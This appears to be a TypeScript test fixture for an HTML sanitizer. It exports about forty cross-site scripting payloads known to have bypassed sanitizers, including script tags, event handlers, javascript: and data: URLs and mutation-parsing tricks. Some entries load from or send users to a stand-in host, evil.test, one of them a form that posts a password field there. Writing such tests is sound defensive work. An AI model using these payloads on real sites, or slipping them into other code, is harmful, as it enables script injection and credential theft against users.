/**
 * Texts that have bypassed sanitizers before: rendered as they are, each runs a script, loads from elsewhere or
 * imitates a part of the site.
 */
export const hostileHtml: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.test/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="//evil.test/pixel.png">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img srcset="//evil.test/a 1x" src="/banners/banner-1-s.svg">',
  '<img """><script>alert(1)</script>">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">click</math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="//evil.test/x.swf">',
  '<form action="https://evil.test"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="&#106;&#97;vascript:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="//evil.test">x</a>',
  '<a href="/\\evil.test">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="https://example.test" onclick="alert(1)" style="position:fixed;inset:0" id="login" name="document">x</a>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<style>*{background:url(//evil.test)}</style>',
  '<link rel=stylesheet href="//evil.test/x.css">',
  '<meta http-equiv=refresh content="0;url=//evil.test">',
  '<base href="//evil.test/">',
  '<body onload=alert(1)><p>x</p></body>',
  '<video src=x onerror=alert(1)><source src=x onerror=alert(1)></video>',
  '<details open ontoggle=alert(1)>x</details>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[><img src=x onerror=alert(1)>]]>',
  '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>',
  '<table><td background="javascript:alert(1)">x</td></table>',
];

/** Closes whatever the preceding text left open, so that it does not hide the next one. */
const CLOSER = '--></script></style></textarea></title></xmp></noscript></template></select></svg></math></table>';

/** Text that a page still shows after sanitizing. */
export const HARMLESS_WORDS = 'Okunur söz';

/** All of them in one text, with harmless words at the end. */
export const hostilePage = `${hostileHtml.map((html) => html + CLOSER).join('')}<p>${HARMLESS_WORDS}</p>`;
